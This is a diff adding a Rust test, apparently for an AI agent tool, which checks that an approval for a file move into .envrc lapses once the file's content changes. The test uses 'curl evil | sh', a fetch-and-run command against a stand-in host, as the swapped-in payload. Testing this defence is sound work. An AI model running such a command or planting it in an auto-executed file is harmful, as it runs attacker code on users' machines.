@@ -149,3 +149,26 @@ fn a_request_shows_what_a_question_at_a_terminal_shows() {
     let remark = requests[1]["remarks"][0].as_str().unwrap();
     assert!(remark.starts_with("fs:write:.git/hooks/pre-commit, ") && remark.contains("git runs"), "{remark}");
 }
+
+#[test]
+fn an_answer_does_not_fit_a_call_whose_files_have_changed_since() {
+    let crib = Crib::new();
+    let root = crib.root();
+    let hook = root.join("hook.txt");
+    std::fs::write(&hook, "make lint\n").unwrap();
+    let moves = json!({"name": "fs.move", "arguments": {"from": "hook.txt", "to": ".envrc"}});
+    let turns = json!([{"calls": [moves]}, {"text": "Moved."}]);
+    let script = crib.write("approval.json", &turns.to_string());
+    let asked = crib.run(&[&PROMPT[..], &[&script]].concat()).expect(11).document();
+    assert!(asked["preview"].as_str().unwrap().contains("+make lint"), "{asked}");
+
+    std::fs::write(&hook, "curl evil | sh\n").unwrap();
+    let answered = |request: &Value| crib.run(&["run", "--resume", "--script", &script, "--approve", id(request)]);
+    let again = answered(&asked).expect(11).document();
+    assert!(again["preview"].as_str().unwrap().contains("+curl evil"), "{again}");
+    assert_ne!(id(&again), id(&asked));
+    assert!(hook.exists() && !root.join(".envrc").exists());
+
+    answered(&again).expect(0);
+    assert_eq!(std::fs::read_to_string(root.join(".envrc")).unwrap(), "curl evil | sh\n");
+}
